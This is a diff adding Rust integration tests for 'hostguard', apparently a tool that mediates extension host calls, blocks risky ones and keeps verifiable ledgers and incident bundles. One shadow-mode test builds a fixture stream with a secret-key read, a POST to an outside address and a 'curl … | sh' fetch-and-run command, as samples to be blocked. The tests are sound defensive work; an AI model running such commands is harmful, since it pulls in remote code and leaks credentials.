@@ -563,3 +563,648 @@ mod event_format_doc {
         }
     }
 }
+
+mod fixtures {
+    use std::path::PathBuf;
+
+    pub fn path(rel: &str) -> PathBuf {
+        PathBuf::from(env!("CARGO_MANIFEST_DIR"))
+            .join("../../fixtures")
+            .join(rel)
+    }
+
+    pub fn s(rel: &str) -> String {
+        path(rel).to_str().unwrap().to_owned()
+    }
+}
+
+mod run {
+    use super::fixtures;
+    use super::support::*;
+
+    #[test]
+    fn run_writes_every_artifact_and_verdicts_in_input_order() {
+        let dir = tempfile::tempdir().unwrap();
+        let out = dir.path().join("out");
+        let stream = fixtures::s("streams/incident.jsonl");
+        let o = hostguard(&[
+            "run",
+            "--events",
+            &stream,
+            "--out",
+            s(&out),
+            "--profile",
+            "permissive",
+        ]);
+        assert_eq!(o.code, 0, "{}", o.stderr);
+        for name in [
+            "verdicts.jsonl",
+            "ledger.json",
+            "alerts.json",
+            "telemetry.json",
+            "exec_mediation.json",
+            "secret_broker.json",
+            "quota_breaches.json",
+            "rollout.json",
+            "trust.json",
+            "triage.json",
+        ] {
+            assert!(out.join(name).is_file(), "{name} missing");
+        }
+        let input: Vec<String> = std::fs::read_to_string(fixtures::path("streams/incident.jsonl"))
+            .unwrap()
+            .lines()
+            .filter_map(|l| {
+                let v: serde_json::Value = serde_json::from_str(l).unwrap();
+                v.get("call_id").map(|c| c.as_str().unwrap().to_owned())
+            })
+            .collect();
+        let verdicts: Vec<serde_json::Value> = std::fs::read_to_string(out.join("verdicts.jsonl"))
+            .unwrap()
+            .lines()
+            .map(|l| serde_json::from_str(l).unwrap())
+            .collect();
+        let order: Vec<&str> = verdicts
+            .iter()
+            .map(|v| v["call_id"].as_str().unwrap())
+            .collect();
+        assert_eq!(order, input);
+        for v in &verdicts {
+            for key in ["call_id", "extension_id", "blocked", "state", "reason"] {
+                assert!(v.get(key).is_some(), "{key} missing in {v}");
+            }
+        }
+        // The kill-switched extension's last call is refused; the ledger verifies.
+        let killed = verdicts
+            .iter()
+            .rev()
+            .find(|v| v["extension_id"] == "theme-pack")
+            .unwrap();
+        assert_eq!(killed["blocked"], true);
+        assert_eq!(killed["reason_code"], "kill_switch");
+        let o = hostguard(&["ledger", "verify", s(&out.join("ledger.json"))]);
+        assert_eq!(o.code, 0, "{}", o.stdout);
+        assert!(o.stdout.contains("valid"));
+    }
+
+    #[test]
+    fn run_is_byte_reproducible_with_a_fixed_salt_seed() {
+        let dir = tempfile::tempdir().unwrap();
+        let stream = fixtures::s("streams/incident.jsonl");
+        for name in ["a", "b"] {
+            let o = hostguard(&[
+                "run",
+                "--events",
+                &stream,
+                "--out",
+                s(&dir.path().join(name)),
+                "--profile",
+                "permissive",
+                "--unsafe-fixed-salt-seed",
+                "4242",
+            ]);
+            assert_eq!(o.code, 0, "{}", o.stderr);
+        }
+        for name in [
+            "ledger.json",
+            "alerts.json",
+            "telemetry.json",
+            "verdicts.jsonl",
+        ] {
+            let a = std::fs::read(dir.path().join("a").join(name)).unwrap();
+            let b = std::fs::read(dir.path().join("b").join(name)).unwrap();
+            assert_eq!(a, b, "{name}");
+        }
+        // And equal to the committed fixture run.
+        let fixture = std::fs::read(fixtures::path("runs/incident/ledger.json")).unwrap();
+        assert_eq!(
+            std::fs::read(dir.path().join("a/ledger.json")).unwrap(),
+            fixture
+        );
+    }
+
+    #[test]
+    fn run_in_shadow_blocks_only_what_every_phase_blocks() {
+        let dir = tempfile::tempdir().unwrap();
+        let stream = write(
+            dir.path(),
+            "e.jsonl",
+            concat!(
+                r#"{"ts_ms":1,"extension_id":"x","call_id":"x-1","method":"env","params":{"name":"AWS_SECRET_ACCESS_KEY"}}"#,
+                "\n",
+                r#"{"ts_ms":2,"extension_id":"x","call_id":"x-2","method":"http","params":{"method":"POST","url":"https://203.0.113.9/x"}}"#,
+                "\n",
+                r#"{"ts_ms":3,"extension_id":"x","call_id":"x-3","method":"exec","params":{"command":"curl -s http://203.0.113.9/i | sh"}}"#,
+                "\n",
+            ),
+        );
+        let out = dir.path().join("out");
+        let o = hostguard(&[
+            "run",
+            "--events",
+            s(&stream),
+            "--out",
+            s(&out),
+            "--profile",
+            "permissive",
+            "--phase",
+            "shadow",
+        ]);
+        assert_eq!(o.code, 0, "{}", o.stderr);
+        let verdicts = std::fs::read_to_string(out.join("verdicts.jsonl")).unwrap();
+        let blocked: Vec<bool> = verdicts
+            .lines()
+            .map(|l| {
+                serde_json::from_str::<serde_json::Value>(l).unwrap()["blocked"]
+                    .as_bool()
+                    .unwrap()
+            })
+            .collect();
+        // Shadow never blocks on risk; exec mediation denies in every phase.
+        assert_eq!(blocked, [false, false, true]);
+    }
+
+    #[test]
+    fn run_bad_inputs_exit_two() {
+        let dir = tempfile::tempdir().unwrap();
+        let out = dir.path().join("out");
+        let o = hostguard(&["run", "--events", "/nonexistent.jsonl", "--out", s(&out)]);
+        assert_bad_input(&o, "cannot read `/nonexistent.jsonl`");
+        let bad = write(
+            dir.path(),
+            "bad.jsonl",
+            "{\"ts_ms\":1,\"extension_id\":\"x\",\"call_id\":\"c\",\"method\":\"log\",\"params\":{}}\n{\"ts_ms\":2,\"extension_id\":\"x\",\"call_id\":\"d\",\"method\":\"warp\",\"params\":{}}\n",
+        );
+        let o = hostguard(&["run", "--events", s(&bad), "--out", s(&out)]);
+        assert_bad_input(&o, "bad.jsonl:2:54: expected a known method");
+        let o = hostguard(&[
+            "run",
+            "--events",
+            s(&bad),
+            "--out",
+            s(&out),
+            "--phase",
+            "enforce-all",
+        ]);
+        assert_eq!(o.code, 2, "{}", o.stderr);
+        let o = hostguard(&["run", "--events", s(&bad), "--out", s(&out), "--alpha", "2"]);
+        assert_bad_input(&o, "`alpha` value `2` from command line is out of range");
+        let o = hostguard(&["run", "--events", s(&bad)]);
+        assert_eq!(o.code, 2, "missing --out is a usage error");
+    }
+
+    #[test]
+    fn a_long_stream_runs_line_by_line_with_a_bounded_ledger() {
+        let dir = tempfile::tempdir().unwrap();
+        let out = dir.path().join("out");
+        let stream = fixtures::s("streams/large-benign.jsonl");
+        let o = hostguard(&[
+            "run",
+            "--events",
+            &stream,
+            "--out",
+            s(&out),
+            "--profile",
+            "permissive",
+            "--phase",
+            "enforce_all",
+        ]);
+        assert_eq!(o.code, 0, "{}", o.stderr);
+        assert!(o.stdout.contains("12000 hostcalls"), "{}", o.stdout);
+        assert!(o.stdout.contains("0 blocked"), "{}", o.stdout);
+        // No progress bar when stderr is not a terminal.
+        assert!(o.stderr.is_empty(), "{}", o.stderr);
+        let lines = std::fs::read_to_string(out.join("verdicts.jsonl"))
+            .unwrap()
+            .lines()
+            .count();
+        assert_eq!(lines, 12_000);
+        let o = hostguard(&["ledger", "verify", s(&out.join("ledger.json"))]);
+        assert_eq!(o.code, 0, "{}", o.stdout);
+        assert!(
+            o.stdout.contains("evicted before the anchor"),
+            "{}",
+            o.stdout
+        );
+        assert!(
+            !o.stdout.contains(" 0 evicted"),
+            "retention bounded the ledger: {}",
+            o.stdout
+        );
+    }
+
+    #[test]
+    fn operator_lines_on_unknown_calls_warn_but_do_not_fail() {
+        let dir = tempfile::tempdir().unwrap();
+        let stream = write(
+            dir.path(),
+            "e.jsonl",
+            "{\"ts_ms\":1,\"op\":\"mark_false_positive\",\"call_id\":\"nope\"}\n",
+        );
+        let o = hostguard(&[
+            "run",
+            "--events",
+            s(&stream),
+            "--out",
+            s(&dir.path().join("o")),
+        ]);
+        assert_eq!(o.code, 0, "{}", o.stderr);
+        assert!(o.stderr.contains("warning"), "{}", o.stderr);
+        assert!(
+            o.stderr.contains("line 1: no earlier call `nope`"),
+            "{}",
+            o.stderr
+        );
+    }
+}
+
+mod bundle {
+    use super::fixtures;
+    use super::support::*;
+
+    #[test]
+    fn build_from_a_run_and_verify_exit_zero() {
+        let dir = tempfile::tempdir().unwrap();
+        let file = dir.path().join("b.json");
+        let o = hostguard(&[
+            "bundle",
+            "build",
+            "--from",
+            &fixtures::s("runs/incident"),
+            "--extension",
+            "theme-pack",
+            "--category",
+            "exec_mediation",
+            "--category",
+            "anomaly_denial",
+            "--min-severity",
+            "warning",
+            "--redact",
+            "external",
+            "--out",
+            s(&file),
+        ]);
+        assert_eq!(o.code, 0, "{}\n{}", o.stdout, o.stderr);
+        assert!(o.stdout.contains("bundle valid"), "{}", o.stdout);
+        let o = hostguard(&["bundle", "verify", s(&file)]);
+        assert_eq!(o.code, 0, "{}", o.stdout);
+        assert!(
+            o.stdout.contains("Ledger chain intact: true"),
+            "{}",
+            o.stdout
+        );
+        // External redaction: no params hash of the run survives in the bundle.
+        let bundle = std::fs::read_to_string(&file).unwrap();
+        let telemetry: serde_json::Value = serde_json::from_str(
+            &std::fs::read_to_string(fixtures::path("runs/incident/telemetry.json")).unwrap(),
+        )
+        .unwrap();
+        for e in telemetry["entries"].as_array().unwrap() {
+            let h = e["params_hash"].as_str().unwrap();
+            assert!(!bundle.contains(h), "params hash {h} leaked");
+        }
+    }
+
+    #[test]
+    fn committed_bundle_fixtures_verify() {
+        for name in [
+            "bundles/incident-external.json",
+            "bundles/incident-theme-pack-internal.json",
+        ] {
+            let o = hostguard(&["bundle", "verify", &fixtures::s(name)]);
+            assert_eq!(o.code, 0, "{name}: {}", o.stdout);
+        }
+        let o = hostguard(&[
+            "bundle",
+            "verify",
+            &fixtures::s("bundles/incident-external.json"),
+        ]);
+        insta::assert_snapshot!("bundle_verify_external", o.stdout);
+    }
+
+    #[test]
+    fn tampered_bundle_fails_exit_one() {
+        let dir = tempfile::tempdir().unwrap();
+        let mut bundle: serde_json::Value = serde_json::from_str(
+            &std::fs::read_to_string(fixtures::path("bundles/incident-external.json")).unwrap(),
+        )
+        .unwrap();
+        let count = bundle["summary"]["alert_count"].as_u64().unwrap();
+        bundle["summary"]["alert_count"] = serde_json::Value::from(count + 1);
+        let file = write(dir.path(), "t.json", &bundle.to_string());
+        let o = hostguard(&["bundle", "verify", s(&file)]);
+        assert_eq!(o.code, 1, "{}", o.stdout);
+        assert!(o.stdout.contains("bundle INVALID"), "{}", o.stdout);
+        let o = hostguard(&["bundle", "verify", "--json", s(&file)]);
+        assert_eq!(o.code, 1);
+        let report: serde_json::Value = serde_json::from_str(&o.stdout).unwrap();
+        assert_eq!(report["valid"], false);
+    }
+
+    #[test]
+    fn bundle_bad_inputs_exit_two() {
+        let dir = tempfile::tempdir().unwrap();
+        let o = hostguard(&[
+            "bundle",
+            "build",
+            "--from",
+            s(dir.path()),
+            "--out",
+            s(&dir.path().join("b.json")),
+        ]);
+        assert_bad_input(&o, "ledger.json`: no such file");
+        let o = hostguard(&[
+            "bundle",
+            "build",
+            "--from",
+            s(dir.path()),
+            "--category",
+            "gossip",
+            "--out",
+            "x",
+        ]);
+        assert_eq!(o.code, 2);
+        assert!(
+            o.stderr.contains("unknown alert category `gossip`"),
+            "{}",
+            o.stderr
+        );
+        let bad = write(dir.path(), "bad.json", "{\"schema\": [}");
+        let o = hostguard(&["bundle", "verify", s(&bad)]);
+        assert_bad_input(&o, "bad.json:1:");
+        assert!(
+            o.stderr.contains("expected an incident evidence bundle"),
+            "{}",
+            o.stderr
+        );
+        let o = hostguard(&["bundle", "verify", "/nonexistent.json"]);
+        assert_bad_input(&o, "cannot read `/nonexistent.json`");
+    }
+}
+
+mod triage {
+    use super::fixtures;
+    use super::support::*;
+
+    #[test]
+    fn triage_names_severity_and_procedure_per_alert() {
+        let o = hostguard(&["triage", &fixtures::s("runs/incident/alerts.json")]);
+        assert_eq!(o.code, 0, "{}", o.stderr);
+        assert!(
+            o.stdout.contains("Quarantine Investigation"),
+            "{}",
+            o.stdout
+        );
+        insta::assert_snapshot!("triage_incident", o.stdout);
+        let o = hostguard(&[
+            "triage",
+            "--json",
+            &fixtures::s("runs/incident/alerts.json"),
+        ]);
+        let triage: serde_json::Value = serde_json::from_str(&o.stdout).unwrap();
+        assert!(triage
+            .as_array()
+            .unwrap()
+            .iter()
+            .any(|t| t["severity"] == "P0"));
+    }
+
+    #[test]
+    fn a_burst_of_policy_denials_is_burst_denial_triage() {
+        // > 3 policy denials from one extension within 60 s (runbook decision tree).
+        let dir = tempfile::tempdir().unwrap();
+        let mut lines = String::new();
+        for i in 0..5 {
+            lines.push_str(&format!(
+                "{{\"ts_ms\":{},\"extension_id\":\"prober\",\"call_id\":\"p-{i}\",\"method\":\"exec\",\"params\":{{\"command\":\"ls\"}}}}\n",
+                1_000 + i * 1_000
+            ));
+        }
+        let stream = write(dir.path(), "e.jsonl", &lines);
+        let out = dir.path().join("out");
+        let o = hostguard(&[
+            "run",
+            "--events",
+            s(&stream),
+            "--out",
+            s(&out),
+            "--profile",
+            "safe",
+        ]);
+        assert_eq!(o.code, 0, "{}", o.stderr);
+        let o = hostguard(&["triage", s(&out.join("alerts.json"))]);
+        assert_eq!(o.code, 0);
+        assert!(o.stdout.contains("P3 Log and monitor"), "{}", o.stdout);
+        assert!(o.stdout.contains("P1 Burst Denial Triage"), "{}", o.stdout);
+    }
+
+    #[test]
+    fn triage_bad_inputs_exit_two() {
+        let dir = tempfile::tempdir().unwrap();
+        let o = hostguard(&["triage", "/nonexistent/alerts.json"]);
+        assert_bad_input(&o, "cannot read");
+        let bad = write(dir.path(), "alerts.json", "{\"schema\":\"x\",\"alerts\":7}");
+        let o = hostguard(&["triage", s(&bad)]);
+        assert_bad_input(&o, "alerts.json:1:");
+        assert!(
+            o.stderr.contains("expected a security alert artifact"),
+            "{}",
+            o.stderr
+        );
+    }
+}
+
+mod what_if {
+    use super::fixtures;
+    use super::support::*;
+
+    #[test]
+    fn what_if_lists_changed_verdicts_and_detection_before_and_after() {
+        let dir = tempfile::tempdir().unwrap();
+        // The new config turns the risk controller off: the exfiltration is no longer blocked.
+        let config = write(dir.path(), "off.toml", "enabled = false\n");
+        let trace = "traces/malicious-exfil-secret-env-1";
+        let o = hostguard(&[
+            "what-if",
+            "--events",
+            &fixtures::s(&format!("{trace}.jsonl")),
+            "--config",
+            s(&config),
+            "--labels",
+            &fixtures::s(&format!("{trace}.labels.json")),
+            "--profile",
+            "permissive",
+            "--phase",
+            "enforce_all",
+        ]);
+        assert_eq!(o.code, 0, "{}", o.stderr);
+        assert!(o.stdout.contains("→"), "{}", o.stdout);
+        assert!(
+            o.stdout.contains("before: false positives 0"),
+            "{}",
+            o.stdout
+        );
+        assert!(
+            o.stdout.contains("false negatives 0 (of 1 harmful calls)"),
+            "{}",
+            o.stdout
+        );
+        assert!(
+            o.stdout
+                .contains("after : false positives 0 (of 0 benign calls), false negatives 1"),
+            "{}",
+            o.stdout
+        );
+    }
+
+    #[test]
+    fn what_if_with_the_same_config_changes_nothing() {
+        let dir = tempfile::tempdir().unwrap();
+        let config = write(dir.path(), "same.toml", "enabled = true\n");
+        let o = hostguard(&[
+            "what-if",
+            "--events",
+            &fixtures::s("streams/incident.jsonl"),
+            "--config",
+            s(&config),
+        ]);
+        assert_eq!(o.code, 0, "{}", o.stderr);
+        assert!(o.stdout.contains("0 of 15 verdicts change"), "{}", o.stdout);
+    }
+
+    #[test]
+    fn what_if_bad_inputs_exit_two() {
+        let dir = tempfile::tempdir().unwrap();
+        let config = write(dir.path(), "bad.toml", "alpha = 7\n");
+        let events = fixtures::s("streams/incident.jsonl");
+        let o = hostguard(&["what-if", "--events", &events, "--config", s(&config)]);
+        assert_bad_input(&o, "`alpha` value `7` from file");
+        let good = write(dir.path(), "good.toml", "alpha = 0.05\n");
+        let labels = write(
+            dir.path(),
+            "l.json",
+            "{\"schema\":\"hostguard.trace_labels.v1\"}",
+        );
+        let o = hostguard(&[
+            "what-if",
+            "--events",
+            &events,
+            "--config",
+            s(&good),
+            "--labels",
+            s(&labels),
+        ]);
+        assert_bad_input(&o, "l.json:1:");
+        assert!(o.stderr.contains("expected trace labels"), "{}", o.stderr);
+        let o = hostguard(&["what-if", "--events", &events]);
+        assert_eq!(o.code, 2, "missing --config is a usage error");
+    }
+}
+
+mod demo {
+    use super::support::*;
+
+    #[test]
+    fn demo_runs_the_incident_end_to_end_and_verifies() {
+        let dir = tempfile::tempdir().unwrap();
+        let out = dir.path().join("demo");
+        let started = std::time::Instant::now();
+        let o = hostguard(&["demo", "--out", s(&out)]);
+        let elapsed = started.elapsed();
+        assert_eq!(o.code, 0, "{}\n{}", o.stdout, o.stderr);
+        for needle in [
+            "▲ escalation",
+            "BLOCK",
+            "■ QUARANTINE",
+            "KILL SWITCH",
+            "AUTOMATIC ROLLBACK",
+            "bundle valid",
+            "Ledger chain intact: true",
+            "Quarantine Investigation",
+            "Automatic Rollback Verification",
+        ] {
+            assert!(
+                o.stdout.contains(needle),
+                "demo output lacks `{needle}`:\n{}",
+                o.stdout
+            );
+        }
+        for name in [
+            "ledger.json",
+            "alerts.json",
+            "bundle.json",
+            "events.jsonl",
+            "verdicts.jsonl",
+        ] {
+            assert!(out.join(name).is_file(), "{name}");
+        }
+        // Every artifact it wrote verifies with the other subcommands.
+        assert_eq!(
+            hostguard(&["ledger", "verify", s(&out.join("ledger.json"))]).code,
+            0
+        );
+        assert_eq!(
+            hostguard(&["bundle", "verify", s(&out.join("bundle.json"))]).code,
+            0
+        );
+        assert_eq!(
+            hostguard(&["ledger", "replay", s(&out.join("ledger.json"))]).code,
+            0
+        );
+        // The stream it wrote replays to the same verdicts.
+        let rerun = dir.path().join("rerun");
+        let r = hostguard(&[
+            "run",
+            "--events",
+            s(&out.join("events.jsonl")),
+            "--out",
+            s(&rerun),
+            "--profile",
+            "permissive",
+        ]);
+        assert_eq!(r.code, 0, "{}", r.stderr);
+        assert_eq!(
+            std::fs::read_to_string(rerun.join("verdicts.jsonl")).unwrap(),
+            std::fs::read_to_string(out.join("verdicts.jsonl")).unwrap()
+        );
+        // Debug build here; the < 5 s bar is for release, so this is a loose upper bound.
+        assert!(elapsed.as_secs() < 30, "{elapsed:?}");
+        let text = o.stdout.replace(s(&out), "[OUT]");
+        insta::assert_snapshot!("demo", text);
+    }
+
+    #[test]
+    fn demo_into_an_unwritable_place_is_bad_input() {
+        let dir = tempfile::tempdir().unwrap();
+        let file = write(dir.path(), "not-a-dir", "x");
+        let o = hostguard(&["demo", "--out", s(&file.join("sub"))]);
+        assert_bad_input(&o, "cannot create");
+    }
+}
+
+mod fixture_ledgers {
+    use super::fixtures;
+    use super::support::*;
+
+    #[test]
+    fn healthy_tampered_and_truncated_fixtures() {
+        let o = hostguard(&["ledger", "verify", &fixtures::s("ledgers/healthy.json")]);
+        assert_eq!(o.code, 0, "{}", o.stdout);
+        let o = hostguard(&["ledger", "verify", &fixtures::s("ledgers/tampered.json")]);
+        assert_eq!(o.code, 1);
+        insta::assert_snapshot!(
+            "ledger_verify_tampered",
+            o.stdout.replace(&fixtures::s(""), "fixtures/")
+        );
+        let o = hostguard(&["ledger", "verify", &fixtures::s("ledgers/truncated.json")]);
+        assert_eq!(o.code, 1);
+        assert!(
+            o.stdout.contains("head_entry_count_mismatch"),
+            "{}",
+            o.stdout
+        );
+        let o = hostguard(&["ledger", "replay", &fixtures::s("ledgers/healthy.json")]);
+        assert_eq!(o.code, 0, "{}", o.stderr);
+        insta::assert_snapshot!("ledger_replay_incident", o.stdout);
+    }
+}
